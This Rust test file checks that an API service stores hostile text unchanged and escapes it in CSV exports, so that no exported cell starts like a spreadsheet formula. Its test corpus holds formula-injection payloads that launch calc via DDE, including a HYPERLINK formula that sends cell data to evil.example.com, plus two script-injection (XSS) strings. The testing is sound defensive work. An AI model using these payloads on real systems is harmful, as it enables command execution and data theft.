//! W8: hostile texts in every field that takes one, as they leave by the API and in files.

use reqwest::Method;
use serde_json::{Value, json};

use super::harness::{Site, text};
use super::objects;
use super::stage::{Stage, alert};

/// What a spreadsheet would run, and what a page would.
const CORPUS: [&str; 13] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example.com?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "a,=1+1",
    "a\",=1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
];

/// The cells of a file, as a spreadsheet reads it.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = csv.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            '"' if quoted => quoted = false,
            '"' if cell.is_empty() => quoted = true,
            '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            ',' if !quoted => cells.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    cells.push(cell);
    cells
}

/// Whether a spreadsheet would calculate it.
fn runs(cell: &str) -> bool {
    let formula = |letter: char| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(letter);
    cell.starts_with(formula) && cell.parse::<f64>().is_err()
}

#[track_caller]
fn harmless(path: &str, csv: &str) {
    for cell in cells(csv) {
        assert!(!runs(&cell), "{path}: {cell:?} in {csv}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w8_hostile_texts_in_every_field_leave_as_they_came_and_run_in_no_spreadsheet() {
    let site = Site::start().await;
    let stage = Stage::set(&site, site.tenant(), "test").await;
    let (_, made) = objects::make_all(&site, &stage).await;
    let (mut kept, mut hostile) = (0, CORPUS.iter().cycle());
    for (kind, shown) in &made {
        let path = format!("{}/{}", kind.path, text(shown, "id"));
        let fields = kind.example.as_object().unwrap();
        let good: Value = fields
            .keys()
            .map(|field| (field.clone(), shown[field].clone()))
            .collect::<serde_json::Map<_, _>>()
            .into();
        for field in fields.keys().filter(|field| fields[*field].is_string()) {
            // Some take a word of a list, or a form, and refuse all of these.
            for _ in 0..CORPUS.len() {
                let word = hostile.next().unwrap();
                let mut body = good.clone();
                body[field] = json!(word);
                let mut reply = stage.admin.send(Method::PUT, &path, &body).await;
                if reply.status.as_u16() == 405 {
                    reply = stage.admin.post(&kind.path, &body).await;
                }
                if !reply.status.is_success() || reply.body[field] != *word {
                    let refused = reply.status.is_client_error() || reply.status.is_success();
                    assert!(refused, "{path} {field}: {:#}", reply.body);
                    continue;
                }
                assert_eq!(reply.headers["content-type"], "application/json");
                assert_eq!(reply.headers["x-content-type-options"], "nosniff");
                let file = format!("{}/export?format=csv", kind.path);
                let csv = stage.admin.get(&file).await;
                assert_eq!(csv.headers["content-type"], "text/csv; charset=utf-8");
                assert_eq!(csv.headers["x-content-type-options"], "nosniff");
                harmless(&file, csv.body.as_str().unwrap());
                kept += 1;
                break;
            }
        }
    }
    assert!(kept > 40, "only {kept} fields took one");
    println!("hostile texts in {kept} fields");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w8_what_an_alert_or_a_report_says_runs_in_no_spreadsheet() {
    let site = Site::start().await;
    let stage = Stage::set(&site, site.tenant(), "test").await;
    for (number, word) in CORPUS.iter().enumerate() {
        let mut hostile = alert(word, word, number, word);
        hostile["labels"]["job"] = json!(word);
        hostile["annotations"] = json!({"summary": word, "description": word});
        let finding = stage.fire(hostile).await;
        let shown = stage.admin.get(&format!("/alerts/{finding}")).await;
        assert_eq!(shown.headers["content-type"], "application/json");
        assert_eq!(shown.headers["x-content-type-options"], "nosniff");
        assert_eq!(shown.body["labels"]["note"], *word, "{:#}", shown.body);
        let report = json!({
            "kind": "violation", "fingerprint": format!("f{number}"), "title": word,
            "severity": "high", "reason": word, "violation": {},
        });
        stage.admin.post("/findings", &report).await.expect(200);
    }
    let file = "/findings/export?format=csv";
    let csv = stage.admin.get(file).await.expect(200);
    let csv = csv.as_str().unwrap();
    for word in CORPUS {
        assert!(csv.contains(&word.replace('"', "\"\"")), "{word} is not in {csv}");
    }
    harmless(file, csv);
}
